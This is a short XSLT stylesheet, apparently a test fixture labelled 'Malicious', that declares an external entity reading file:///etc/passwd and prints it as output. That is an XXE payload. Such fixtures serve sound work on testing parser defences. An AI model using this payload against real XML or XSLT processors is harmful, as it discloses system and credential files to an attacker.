<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE xsl:stylesheet [
  <!ENTITY secret SYSTEM "file:///etc/passwd">
]>
<!-- Malicious: an external entity in the stylesheet. -->
<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:output method="text"/>
  <xsl:template match="/">&secret;</xsl:template>
</xsl:stylesheet>
